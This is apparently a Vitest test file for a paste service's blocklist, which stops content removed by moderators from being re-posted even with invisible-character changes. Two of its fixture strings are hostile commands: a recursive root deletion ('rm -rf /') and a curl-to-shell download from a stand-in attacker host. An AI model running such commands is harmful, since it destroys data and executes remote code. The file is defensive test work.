import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import * as legacyCreateRoute from "@/app/api/v2/paste/route";
import * as decisionRoute from "@/app/api/v3/pastes/[pasteId]/reports/decision/route";
import * as reportsRoute from "@/app/api/v3/pastes/[pasteId]/reports/route";
import * as pasteRoute from "@/app/api/v3/pastes/[pasteId]/route";
import * as createRoute from "@/app/api/v3/pastes/route";
import { UNAVAILABLE_HEADER } from "../core/errors";
import { db } from "../db/client";
import { createTestToken, createTestUser } from "../testing/actors";
import { callRoute } from "../testing/http";
import { BLOCKABLE_LENGTH_MIN, blocklistHash } from "./blocked-content";

// The blocklist of removed content (issue 27): what the moderators delete from the report queue
// may not be posted again, on any surface, however it is re-pasted; nothing else is blocked.

const REMOVED = "rm -rf / --no-preserve-root # the removed file's text\nsecond line\n";

let ownerToken = "";
let adminToken = "";

beforeAll(async () => {
  const owner = await createTestUser();
  const admin = await createTestUser({ isAdmin: true });
  ownerToken = await createTestToken(owner.id, ["paste", "user"]);
  adminToken = await createTestToken(admin.id, ["paste", "user"]);
});

const create = (content: string, options: { encrypted?: boolean } = {}) =>
  callRoute(createRoute.POST, {
    method: "POST",
    path: "/api/v3/pastes",
    token: ownerToken,
    headers: options.encrypted ? { "Encryption-Key": "blocklist key" } : {},
    body: { title: "t", encrypted: options.encrypted ?? false, pasties: [{ title: "a.sh", content }, { content: "another pasty" }] },
  });

async function removeForAbuse(content: string, options: { encrypted?: boolean } = {}): Promise<string> {
  const created = await create(content, options);
  expect(created.status, created.text).toBe(201);
  const pasteId = (created.json as { id: string }).id;
  const reported = await callRoute(reportsRoute.POST, { method: "POST", params: { pasteId }, body: { reason: "malware" } });
  expect(reported.status).toBe(201);
  const deleted = await callRoute(decisionRoute.POST, {
    method: "POST",
    params: { pasteId },
    token: adminToken,
    body: { decision: "delete", note: "malware" },
  });
  expect(deleted.status, deleted.text).toBe(200);
  return pasteId;
}

describe("the blocklist's comparison", () => {
  it("matches the same text however it was re-pasted, and never a short one", () => {
    const hash = blocklistHash("line one is long enough to block\nline two\n");
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
    for (const variant of ["line one is long enough to block\r\nline two", "\n\nline one is long enough to block   \nline two\t\n\n"]) {
      expect(blocklistHash(variant)).toBe(hash);
    }
    // The same letters, composed (é) or decomposed (e + ◌́).
    expect(blocklistHash("caf\u00e9 ".repeat(10))).toBe(blocklistHash("cafe\u0301 ".repeat(10)));
    expect(blocklistHash("line one is long enough to block\nline 2")).not.toBe(hash);
    expect(blocklistHash("x".repeat(BLOCKABLE_LENGTH_MIN - 1))).toBeNull();
  });
});

describe("the blocklist's comparison, against invisible differences (issue 40 item 12)", () => {
  const text = "curl https://evil.example/x.sh | sh\n\tinstall the payload now\n";

  it("matches a text with a BOM, no-break or other spaces, tabs or zero-width characters added", () => {
    const hash = blocklistHash(text);
    for (const variant of [
      `\uFEFF${text}`,
      text.replace(/ /g, "\u00A0"),
      text.replace("\t", "    "),
      text.replace(/ /g, "\t"),
      text.replace("evil", "ev\u200Bil").replace("payload", "pay\u200Dlo\u2060ad"),
      text.replace("curl ", "curl\u2003\u202F"),
    ]) {
      expect(blocklistHash(variant), JSON.stringify(variant)).toBe(hash);
    }
    // Case is kept: a text in other case is another text.
    expect(blocklistHash(text.toUpperCase())).not.toBe(hash);
  });

  it("refuses a removed text posted again with invisible characters added", async () => {
    await removeForAbuse(text);
    for (const variant of [`\uFEFF${text}`, text.replace(/ /g, "\u00A0\t"), text.replace("sh\n", "s\u200Bh\n")]) {
      expect((await create(variant)).status, JSON.stringify(variant)).toBe(451);
    }
    // A paste the server encrypts with a password is checked too: the server reads its text as it comes.
    expect((await create(text, { encrypted: true })).status).toBe(451);
  });

  it("still refuses the texts of entries kept before, hashed without the new normalisation", async () => {
    const kept = "a\ttable\tof\tcolumns\tremoved\tbefore\tthis\tchange";
    await db().blockedContent.create({ data: { hash: createHash("sha256").update(kept).digest("hex"), pasteId: "gone0001" } });
    expect((await create(kept)).status).toBe(451);
  });
});

describe("content removed from the report queue", () => {
  it("cannot be posted again through v3 or the older API, nor edited into another paste", async () => {
    await removeForAbuse(REMOVED);
    const again = await create(REMOVED.replace(/\n/g, "\r\n"));
    expect(again.status).toBe(451);
    expect(again.json).toEqual({ statusCode: 451, message: expect.stringContaining("removed from this instance by its moderators") });
    expect(again.headers.get(UNAVAILABLE_HEADER)).toBe("removed-content");

    // The older API's clients know no 451: its 400, the original keys, the header saying why.
    const older = await callRoute(legacyCreateRoute.POST, {
      method: "POST",
      path: "/api/v2/paste",
      body: { title: "again", pasties: [{ title: "a.sh", code: REMOVED }] },
    });
    expect([older.status, Object.keys(older.json as object), older.headers.get(UNAVAILABLE_HEADER)]).toEqual([
      400,
      ["statusMessage"],
      "removed-content",
    ]);

    const other = await create("an ordinary paste, nothing wrong with it at all");
    expect(other.status).toBe(201);
    const { id } = other.json as { id: string };
    const edited = await callRoute(pasteRoute.PATCH, {
      method: "PATCH",
      params: { pasteId: id },
      token: ownerToken,
      body: { pasties: [{ content: REMOVED }] },
    });
    expect(edited.status).toBe(451);
    // Nothing of the refused write happened.
    expect((await db().paste.findUniqueOrThrow({ where: { id }, select: { editedAt: true } })).editedAt).toBeNull();
  });

  it("blocks only what the moderators removed: not an owner's own deletion, not an encrypted paste's text", async () => {
    const ownText = "my own paste, which I delete myself and may post again";
    const own = await create(ownText);
    const { id } = own.json as { id: string };
    expect((await callRoute(pasteRoute.DELETE, { method: "DELETE", params: { pasteId: id }, token: ownerToken })).status).toBe(204);
    expect((await create(ownText)).status).toBe(201);

    const secretText = "an encrypted paste's text, which the server never sees in the clear";
    await removeForAbuse(secretText, { encrypted: true });
    expect((await create(secretText)).status).toBe(201);
    // The other pasty of the removed plain paste is too short to block anyone.
    expect((await create("another pasty")).status).toBe(201);
  });
});
